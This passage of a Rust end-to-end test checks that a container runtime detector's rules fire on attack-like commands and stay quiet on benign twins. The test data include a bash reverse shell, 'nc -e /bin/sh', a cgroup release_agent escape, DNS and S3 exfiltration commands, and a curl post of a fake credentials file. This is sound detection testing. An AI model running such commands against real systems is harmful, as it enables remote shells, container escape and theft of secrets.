        let (cmdline, ctr_id) = (cmdline.clone(), ctr_id.clone());
        move |a: &Value| {
            field(a, "proc.cmdline") == cmdline
                && field(a, "container.id") == if at == At::Host { "host" } else { &ctr_id }
        }
    };
    let pred = move |a: &Value| {
        field(a, "proc.cmdline") == cmdline
            && (field(a, "container.id") == ctr_id) == (at == At::Container)
    };
    if let Some(rule) = c.fires {
        let a = cx.expect_one(c.what, rule, fire_pred);
        assert_eq!(a["source"], "syscall");
    }
    for &rule in c.quiet {
        let p = pred.clone();
        cx.twin(format!("{} ({rule})", c.what), move |a| {
            a["rule"] == rule && p(a)
        });
    }
}

/// The other shipped stateless rules, each with a benign twin where one
/// exists. Connects to anything but loopback are made in `unshare -n`.
fn more_rules(cx: &mut Ctx, ctr: &FakeContainer) {
    use At::{Container as C, Host as H};
    let d = cx.dir.display().to_string();
    // Fake credential files and a runtime socket in the temp dir.
    for (path, body) in [
        (
            "home/.aws/credentials",
            "[default]\naws_secret_access_key=fake\n",
        ),
        ("home/.aws/README", "not a credential\n"),
        (
            "home/.ssh/id_ed25519",
            "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n",
        ),
        ("home/.ssh/id_ed25519.pub", "ssh-ed25519 AAAA fake\n"),
        ("host/etc/shadow", "root:$6$fake:19000:0:99999:7:::\n"),
        ("host/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
        ("home/notes.txt", "nothing secret\n"),
    ] {
        let p = cx.dir.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, body).unwrap();
    }
    std::fs::create_dir_all(cx.dir.join("run")).unwrap();
    std::fs::create_dir_all(cx.dir.join("cg")).unwrap();
    let sock = format!("{d}/run/docker.sock");
    let runtime_api = HttpServer::start_unix(Path::new(&sock));
    let p = |rel: &str| format!("{d}/{rel}");
    let b64_label = "ZXhmaWx0cmF0ZWQtZGF0YS1mcm9tLXRoZS1jbHVzdGVyLXNlY3JldHMtMDEyMzQ1";
    let dns_name = format!("{b64_label}.exfil.example.com");
    let escape = format!("echo /tmp/x > {d}/cg/release_agent");
    let sock_args = [
        "-s",
        "--max-time",
        "3",
        "--unix-socket",
        sock.as_str(),
        "http://localhost/version",
    ];
    let cases = vec![
        // Discovery.
        case("kube-hunter", "kube-hunter", &["--remote", "10.0.0.1"], H)
            .fake()
            .fires(ATTACK_TOOL),
        case("peirates in a container", "peirates", &[], C)
            .fake()
            .fires(ATTACK_TOOL),
        case(
            "nc -z over a port range",
            "nc",
            &["-zv", "10.0.0.5", "1-1024"],
            H,
        )
        .fake()
        .fires(NETCAT_SCAN),
        case("nc -z on one port", "nc", &["-z", "db", "5432"], H)
            .fake()
            .quiet(&[NETCAT_SCAN]),
        case(
            "kubectl in a container",
            "kubectl",
            &["get", "secrets", "-A"],
            C,
        )
        .fake()
        .fires(CLOUD_CLI),
        case(
            "kubectl on the host",
            "kubectl",
            &["get", "secrets", "-A"],
            H,
        )
        .fake()
        .quiet(&[CLOUD_CLI]),
        case(
            "curl to the kubelet in a container",
            "/usr/bin/curl",
            &["-sk", "https://10.0.0.1:10250/pods"],
            C,
        )
        .netns(7)
        .fires(KUBELET),
        case(
            "curl to the kubelet on the host",
            "/usr/bin/curl",
            &["-sk", "https://10.0.0.1:10250/pods"],
            H,
        )
        .netns(7)
        .quiet(&[KUBELET]),
        case(
            "curl to the API server in a container",
            "/usr/bin/curl",
            &["-sk", "https://10.0.0.1:6443/api"],
            C,
        )
        .netns(7)
        .fires(K8S_API),
        // Credential access.
        case(
            "cat of aws credentials",
            "/bin/cat",
            &[&p("home/.aws/credentials")],
            H,
        )
        .fires(CRED_FILE),
        case(
            "cat of a file beside them",
            "/bin/cat",
            &[&p("home/.aws/README")],
            H,
        )
        .quiet(&[CRED_FILE]),
        case(
            "cat of an ssh private key",
            "/bin/cat",
            &[&p("home/.ssh/id_ed25519")],
            H,
        )
        .fires(SSH_KEY),
        case(
            "cat of an ssh public key",
            "/bin/cat",
            &[&p("home/.ssh/id_ed25519.pub")],
            H,
        )
        .quiet(&[SSH_KEY]),
        case(
            "cat of a host's shadow file",
            "/bin/cat",
            &[&p("host/etc/shadow")],
            H,
        )
        .fires(SHADOW),
        case(
            "cat of a host's passwd file",
            "/bin/cat",
            &[&p("host/etc/passwd")],
            H,
        )
        .quiet(&[SHADOW]),
        case(
            "curl to a link-local address in a container",
            "/usr/bin/curl",
            &["-s", "http://169.254.1.1/"],
            C,
        )
        .netns(7)
        .fires(LINK_LOCAL),
        case(
            "curl to link-local DNS in a container",
            "/usr/bin/curl",
            &["-s", "http://169.254.169.253:53/"],
            C,
        )
        .netns(7)
        .quiet(&[LINK_LOCAL]),
        // Lateral movement and escape.
        case(
            "bash /dev/tcp to ssh in a container",
            "/bin/bash",
            &["-c", "echo > /dev/tcp/10.0.0.5/22"],
            C,
        )
        .netns(1)
        .fires(REMOTE_ADMIN),
        case(
            "curl to redis in a container",
            "/usr/bin/curl",
            &["-s", "http://10.0.0.5:6379/"],
            C,
        )
        .netns(7)
        .fires(DATA_STORE),
        case(
            "curl to elasticsearch in a container",
            "/usr/bin/curl",
            &["-s", "http://10.0.0.5:9200/"],
            C,
        )
        .netns(7)
        .quiet(&[DATA_STORE]),
        case(
            "/proc/1/root read in a container",
            "/bin/cat",
            &["/proc/1/root/etc/hostname"],
            C,
        )
        .code(None)
        .fires(PROC1),
        case(
            "/proc/1/root read on the host",
            "/bin/cat",
            &["/proc/1/root/etc/hostname"],
            H,
        )
        .code(None)
        .quiet(&[PROC1]),
        case(
            "runtime socket from a container",
            "/usr/bin/curl",
            &sock_args,
            C,
        )
        .fires(RUNTIME_SOCKET),
        case("runtime socket on the host", "/usr/bin/curl", &sock_args, H).quiet(&[RUNTIME_SOCKET]),
        case(
            "release_agent written in a container",
            "/bin/sh",
            &["-c", &escape],
            C,
        )
        .fires(ESCAPE_FILE),
        case(
            "release_agent written on the host",
            "/bin/sh",
            &["-c", &escape],
            H,
        )
        .quiet(&[ESCAPE_FILE]),
        // Collection and exfiltration.
        case(
            "base64 of an ssh key",
            "/usr/bin/base64",
            &[&p("home/.ssh/id_ed25519")],
            H,
        )
        .fires(ENCODING)
        .quiet(&[SSH_KEY]),
        case(
            "base64 of a note",
            "/usr/bin/base64",
            &[&p("home/notes.txt")],
            H,
        )
        .quiet(&[ENCODING]),
        case(
            "aws s3 cp upload in a container",
            "aws",
            &["s3", "cp", "/data/dump.sql", "s3://exfil-bucket/"],
            C,
        )
        .fake()
        .fires(REMOTE_COPY)
        .quiet(&[CLOUD_CLI]),
        case("rclone", "rclone", &["copy", "/data", "remote:bucket"], H)
            .fake()
            .fires(REMOTE_COPY),
        case(
            "local rsync in a container",
            "rsync",
            &["-a", "/srv/a/", "/srv/b/"],
            C,
        )
        .fake()
        .quiet(&[REMOTE_SHELL, REMOTE_COPY]),
        case("dig of an encoded name", "dig", &["+short", &dns_name], H)
            .fake()
            .fires(DNS_ENCODED),
        case(
            "dig of a service name",
            "dig",
            &["+short", "kubernetes.default.svc.cluster.local"],
            H,
        )
        .fake()
        .quiet(&[DNS_ENCODED]),
        // Command and control.
        case(
            "bash -i to /dev/tcp",
            "bash",
            &["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            H,
        )
        .fake()
        .fires(REVERSE_SHELL),
        case(
            "nc -e in a container",
            "nc",
            &["-e", "/bin/sh", "10.0.0.5", "4444"],
            C,
        )
        .fake()
        .fires(REVERSE_SHELL),
        case(
            "bash /dev/tcp to loopback",
            "bash",
            &["-c", "exec 3<>/dev/tcp/127.0.0.1/8080"],
            H,
        )
        .fake()
        .quiet(&[REVERSE_SHELL]),
        case(
            "bash -i without a terminal in a container",
            "bash",
            &["-i"],
            C,
        )
        .fake()
        .fires(INTERACTIVE),
        case("bash -ic in a container", "bash", &["-ic", "true"], C)
            .fake()
            .quiet(&[INTERACTIVE]),
        case("nc listener in a container", "nc", &["-lvnp", "4444"], C)
            .fake()
            .fires(LISTENER),
        case("nc listener on the host", "nc", &["-lvnp", "4444"], H)
            .fake()
            .quiet(&[LISTENER]),
        case(
            "bash /dev/tcp to a public address",
            "/bin/bash",
            &["-c", "echo > /dev/tcp/203.0.113.7/443"],
            H,
        )
        .netns(1)
        .fires(SHELL_PUBLIC),
        case(
            "bash /dev/tcp to a private address",
            "/bin/bash",
            &["-c", "echo > /dev/tcp/10.0.0.5/443"],
            H,
        )
        .netns(1)
        .quiet(&[SHELL_PUBLIC]),
        case(
            "chisel",
            "chisel",
            &["client", "203.0.113.7:8080", "R:socks"],
            H,
        )
        .fake()
        .fires(TUNNEL),
    ];
    for (i, c) in cases.iter().enumerate() {
        run_case(cx, ctr, i, c);
    }
    // Both curls really talked to the fake runtime API.
    let reqs = runtime_api.requests();
    assert_eq!(
        reqs.iter()
            .filter(|(m, t, _)| m == "GET" && t == "/version")
            .count(),
        2,
        "{reqs:?}"
    );
}

/// What [`scans`] did, for [`assert_scan_alerts`].
struct ScanResult {
    /// The host of the vertical scan.
    target: Ipv4Addr,
    vertical: ConnectRun,
    horizontal: ConnectRun,
    benign: ConnectRun,
}

/// The scan harness: a vertical scan, a horizontal sweep and a benign client
/// against the test's own namespace; checks every connect event.
fn scans(cx: &mut Ctx) -> ScanResult {
    let net = TestNet::create(0);
    let (v, h, b) = scan_runs(&net);
    for run in [&v, &h, &b] {
        let evs = cx.events.connects_of(run.pid, run.targets.len(), |_| true);
        assert_eq!(evs.len(), run.targets.len(), "{} connect events", run.comm);
        let mut want: BTreeMap<(IpAddr, u16), usize> = BTreeMap::new();
        for t in &run.targets {
            *want.entry((IpAddr::V4(*t.ip()), t.port())).or_default() += 1;
        }
        let mut got: BTreeMap<(IpAddr, u16), usize> = BTreeMap::new();
        for e in &evs {
            assert_eq!(e.res, -(libc::ECONNREFUSED as i64), "{e:#?}");
            assert_eq!(e.proc.name, run.comm);
            let f = e.fd.as_ref().expect("socket");
            assert_eq!(f.l4proto.as_deref(), Some("tcp"));
            *got.entry((f.rip.expect("rip"), f.rport.expect("rport")))
                .or_default() += 1;
        }
        assert_eq!(
            got, want,
            "{}: (fd.rip, fd.rport) of its connects",
            run.comm
        );
    }
    ScanResult {
        target: net.peers[0],
        vertical: v,
        horizontal: h,
        benign: b,
    }
}

/// The three connecting processes, each checked to have been refused on
/// every connect.
fn scan_runs(net: &TestNet) -> (ConnectRun, ConnectRun, ConnectRun) {
    let v = ScanPlan::vertical(net, 30).run("mamori-vscan");
    let h = ScanPlan::horizontal(net, 8080).run("mamori-hscan");
    let b = ScanPlan::benign(net, 3, 5432).run("mamori-client");
    for r in [&v, &h, &b] {
        assert!(r.all_refused(), "{}: {:?}", r.comm, r.results);
    }
    (v, h, b)
}

// ------------------------------------------------- stateful scan rules

/// The stateful scan rules of `rules/mamori_stateful_rules.yaml`.
const VERTICAL_SCAN_RULE: &str = "Port Scan of One Host";
const HORIZONTAL_SCAN_RULE: &str = "Network Sweep Across Hosts";

/// An output field as text (strings bare, numbers printed).
fn text(a: &Value, k: &str) -> String {
    match &a["output_fields"][k] {
        Value::String(s) => s.clone(),
        v => v.to_string(),
    }
}

/// The scan-detection assertions on all alerts of a run that saw
/// [`scan_runs`]: the vertical scan (30 ports of one host) fires
/// [`VERTICAL_SCAN_RULE`] once and the sweep (one port on 20 hosts)
/// [`HORIZONTAL_SCAN_RULE`] once, each naming its process, target and a
/// refused result; neither fires for the other scanner or the 3-connect
/// client. Alerts are tied to a process by `proc.pid`.
fn assert_scan_alerts(alerts: &[Value], scan: &ScanResult) {
    let (v, h, b) = (&scan.vertical, &scan.horizontal, &scan.benign);
    let of = |rule: &str, r: &ConnectRun| -> Vec<&Value> {
        alerts
            .iter()
            .filter(|a| a["rule"] == rule && text(a, "proc.pid") == r.pid.to_string())
            .collect()
    };
    let vert = of(VERTICAL_SCAN_RULE, v);
    assert_eq!(vert.len(), 1, "vertical scan alerts: {alerts:#?}");
    let a = vert[0];
    assert_eq!(text(a, "fd.rip"), scan.target.to_string(), "{a:#}");
    assert_eq!(text(a, "evt.res"), "ECONNREFUSED", "{a:#}");
    assert_eq!(a["priority"], "Warning");
    let sweep = of(HORIZONTAL_SCAN_RULE, h);
    assert_eq!(sweep.len(), 1, "sweep alerts: {alerts:#?}");
    let a = sweep[0];
    assert_eq!(text(a, "fd.rport"), "8080", "{a:#}");
    assert_eq!(text(a, "evt.res"), "ECONNREFUSED", "{a:#}");
    assert_eq!(a["priority"], "Warning");
    for (rule, r, what) in [
        (VERTICAL_SCAN_RULE, h, "the sweep taken for a vertical scan"),
        (
            VERTICAL_SCAN_RULE,
            b,
            "the benign client taken for a vertical scan",
        ),
        (
            HORIZONTAL_SCAN_RULE,
            v,
            "the vertical scan taken for a sweep",
        ),
        (
            HORIZONTAL_SCAN_RULE,
            b,
            "the benign client taken for a sweep",
        ),
    ] {
        assert!(of(rule, r).is_empty(), "{what}: {:#?}", of(rule, r));
    }
}

// ------------------------------------------------- other stateful rules

/// `unshare -n sh -c SCRIPT ARGS...` (a shell whose connects cannot leave:
/// the namespace has no route); its pid.
fn shell_in_empty_netns(script: &str, args: &[&str]) -> u32 {
    let mut c = Command::new("unshare");
    c.args(["-n", "sh", "-c", script, "sh"]).args(args);
    let (pid, _) = run_bounded(c);
    pid
}

/// The read-then-send sequences, the failed-connect and denied-open bursts
/// of a container, and the DNS lookup burst: each real, each with a twin.
fn stateful_rules(cx: &mut Ctx, ctr: &FakeContainer) {
    let home = cx.dir.join("victim");
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    let cred = home.join(".aws/credentials");
    std::fs::write(&cred, "[default]\naws_secret_access_key=fake\n").unwrap();
    let notes = home.join("notes.txt");
    std::fs::write(&notes, "nothing secret").unwrap();
    let (cred_s, notes_s) = (cred.display().to_string(), notes.display().to_string());
    let url = format!("http://{PUBLIC_IP}:443/");

    // A shell pipeline: cat reads the credentials, then curl (a sibling)
    // tries an outside address (ENETUNREACH: no packet leaves).
    let send = "cat \"$1\" > /dev/null; curl -s -m 2 \"$2\"; true";
    let sh = shell_in_empty_netns(send, &[&cred_s, &url]);
    let a = cx.expect_one(
        "cat credentials then curl out, one shell",
        READ_THEN_SEND_SHELL,
        move |a| text(a, "seq.read.proc.ppid") == sh.to_string(),
    );
    assert_eq!(field(&a, "seq.read.fd.name"), cred_s, "{a:#}");
    assert_eq!(field(&a, "fd.rip"), PUBLIC_IP, "{a:#}");
    assert_eq!(field(&a, "evt.res"), "ENETUNREACH", "{a:#}");
    assert_eq!(field(&a, "seq.read.proc.cmdline"), format!("cat {cred_s}"));
    assert_eq!(a["priority"], "Critical");
    // Twins: an ordinary file then the same send; the credentials then a
    // loopback (internal) destination.
    let sh_benign = shell_in_empty_netns(send, &[&notes_s, &url]);
    let sh_local = shell_in_empty_netns(send, &[&cred_s, "http://127.0.0.1:9/"]);
    cx.twin("cat an ordinary file then curl out", move |a| {
        a["rule"] == READ_THEN_SEND_SHELL && text(a, "seq.read.proc.ppid") == sh_benign.to_string()
    });
    cx.twin("cat credentials then a loopback connect", move |a| {
        a["rule"] == READ_THEN_SEND_SHELL && text(a, "seq.read.proc.ppid") == sh_local.to_string()
    });

    // Collection then egress: one shell archives a directory, then curl
    // tries an outside address; listing an archive instead does not fire.
    let pack = "tar czf \"$1.tgz\" -C \"$1\" . && curl -s -m 2 \"$2\"; true";
    let home_s = home.display().to_string();
    let sh_pack = shell_in_empty_netns(pack, &[&home_s, &url]);
    let a = cx.expect_one(
        "tar czf then curl out, one shell",
        ARCHIVE_THEN_SEND,
        move |a| text(a, "seq.archive.proc.ppid") == sh_pack.to_string(),
    );
    assert_eq!(field(&a, "fd.rip"), PUBLIC_IP, "{a:#}");
    assert!(
        field(&a, "seq.archive.proc.cmdline").starts_with("tar czf"),
        "{a:#}"
    );
    let list = "tar tzf \"$1.tgz\" > /dev/null && curl -s -m 2 \"$2\"; true";
    let sh_list = shell_in_empty_netns(list, &[&home_s, &url]);
    cx.twin("tar tzf then curl out", move |a| {
        a["rule"] == ARCHIVE_THEN_SEND && text(a, "seq.archive.proc.ppid") == sh_list.to_string()
    });

    // One process reads and sends: curl --data-binary @credentials.
    let curl = |file: &str| {
        let mut c = Command::new("unshare");
        c.args(["-n", "curl", "-s", "-m", "2", "--data-binary"])
            .arg(format!("@{file}"))
            .arg(&url);
        run_bounded(c).0
    };
    let pid = curl(&cred_s);
    let a = cx.expect_one("curl posting credentials out", READ_THEN_SEND, move |a| {
        text(a, "proc.pid") == pid.to_string()
    });
    assert_eq!(field(&a, "seq.read.fd.name"), cred_s, "{a:#}");
    assert_eq!(text(&a, "fd.rport"), "443", "{a:#}");
    let pid_benign = curl(&notes_s);
    cx.twin("curl posting an ordinary file out", move |a| {
        a["rule"] == READ_THEN_SEND && text(a, "proc.pid") == pid_benign.to_string()
    });

    // Blind probing from a container: 22 short-lived curls, each refused.
    let net = TestNet::create(2);
    let target = net.peers[0].to_string();
    let probe = "for p in $(seq 2000 2021); do curl -s -m 1 \"http://$0:$p/\"; done; true";
    let run = ctr.spawn("sh", &["-c", probe, &target]);
    let cid = ctr.short_id().to_string();
    let a = cx.expect_one("22 refused probes from a container", FAILED_BURST, {
        let cid = cid.clone();
        move |a| field(a, "container.id") == cid
    });
    cx.keep.push(run);
    assert_eq!(text(&a, "threshold.count"), "20", "{a:#}");
    // curl connects without blocking: the attempt is in progress when the
    // syscall returns, refused later.
    assert_eq!(field(&a, "evt.res"), "EINPROGRESS", "{a:#}");
    // The same probes from the host: not a container, no alert.
    let mut c = Command::new("sh");
    c.args(["-c", probe, &target]);
    run_ok(c);
    cx.twin("refused probes from the host", move |a| {
        a["rule"] == FAILED_BURST && field(a, "container.id") != cid
    });

    // Enumeration as an unprivileged user: 35 opens refused with EACCES.
    let locked = cx.dir.join("locked");
    std::fs::create_dir_all(&locked).unwrap();
    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let enumerate = "for i in $(seq 1 35); do cat \"$0/f-$i\" 2>/dev/null; done; true";
    let locked_s = locked.display().to_string();
    let as_nobody = [
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "sh",
        "-c",
    ];
    let mut args = as_nobody.to_vec();
    args.extend([enumerate, &locked_s]);
    let run = ctr.spawn("setpriv", &args);
    let cid = ctr.short_id().to_string();
    let a = cx.expect_one("35 denied opens in a container", DENIED_BURST, {
        let (cid, locked_s) = (cid.clone(), locked_s.clone());
        move |a| field(a, "container.id") == cid && field(a, "fd.name").starts_with(&locked_s)
    });
    cx.keep.push(run);
    assert_eq!(text(&a, "threshold.count"), "30", "{a:#}");
    let mut c = Command::new("setpriv");
    c.args(&args);
    run_ok(c);
    cx.twin("denied opens on the host", move |a| {
        a["rule"] == DENIED_BURST && field(a, "container.id") != cid
    });

    // DNS enumeration: one shell runs `dig` for 12 names.
    let dig = tool(&cx.dir, "dig", "/bin/true");
    let dig_s = dig.display().to_string();
    let many = "for i in $(seq 1 12); do \"$0\" +short \"svc-$i.prod.svc.cluster.local\"; done";
    let mut c = Command::new("sh");
    c.args(["-c", many, &dig_s]);
    let (sh, _) = run_ok(c);
    let a = cx.expect_one("dig for 12 names from one shell", DNS_BURST, move |a| {
        text(a, "proc.ppid") == sh.to_string()
    });
    assert_eq!(text(&a, "threshold.count"), "10", "{a:#}");
    let same = "for i in $(seq 1 12); do \"$0\" +short example.com; done";
    let mut c = Command::new("sh");
    c.args(["-c", same, &dig_s]);
    let (sh_same, _) = run_ok(c);
    cx.twin("dig of one name 12 times", move |a| {
        a["rule"] == DNS_BURST && text(a, "proc.ppid") == sh_same.to_string()
    });
}

// ------------------------------------------------------------------ tests

/// Run the renamed `nmap` with a marker and wait for its alert: every event
/// before it has been evaluated and its alerts written.
fn sentinel(dir: &Path, alerts: &mut Alerts) {
    let exe = tool(dir, "nmap", "/bin/true");
    let mut c = Command::new(&exe);
    c.arg("--mamori-sentinel");
    run_ok(c);
    let exe_s = exe.display().to_string();
    alerts.wait_one(RECON, |a| {
        field(a, "proc.exepath") == exe_s && field(a, "proc.cmdline") == "nmap --mamori-sentinel"
    });
}

#[test]
fn shipped_rules_fire_on_real_behaviour_and_not_on_benign_twins() {
    let t0 = Instant::now();
    let tmp = TempDir::new("detections");
    let ctr = FakeContainer::create(1);
    let alert_file = tmp.0.join("alerts.jsonl");
    let event_file = tmp.0.join("connects.jsonl");
    let (mut run, mut cap) = start_both(run_cmd(&alert_file), capture_cmd(&event_file));
    eprintln!("attached after {:?}: {:?}", t0.elapsed(), run.log);
    let mut cx = Ctx {
        dir: tmp.0.clone(),
        alerts: Alerts(Lines::new(&alert_file)),
        events: Events::new(&event_file),
        checks: Vec::new(),
        keep: Vec::new(),
    };

    recon_tools(&mut cx);
    sa_token(&mut cx);
    imds(&mut cx, &ctr);
    upload(&mut cx);
    remote_shell(&mut cx, &ctr);
    more_rules(&mut cx, &ctr);
    let scan = scans(&mut cx);
    stateful_rules(&mut cx, &ctr);

    sentinel(&cx.dir, &mut cx.alerts);
    let all = &cx.alerts.0.items;
    for c in &cx.checks {
        let hits: Vec<&Value> = all.iter().filter(|a| (c.pred)(a)).collect();
        assert_eq!(hits.len(), c.n, "alerts for {}: {hits:#?}", c.what);
    }
    cx.keep.clear();
    assert_scan_alerts(all, &scan);
    let drops: Vec<&Value> = all.iter().filter(|a| a["source"] == "internal").collect();
    eprintln!("kernel drop reports during the run: {}", drops.len());

    let (st, log) = cap.stop();
    assert!(st.success(), "capture exited with {st}: {log:?}");
    let (st, log) = run.stop();
    assert!(st.success(), "run exited with {st}: {log:?}");
    eprintln!("{}", log.last().map(String::as_str).unwrap_or(""));
    eprintln!("detections e2e took {:?}", t0.elapsed());
}
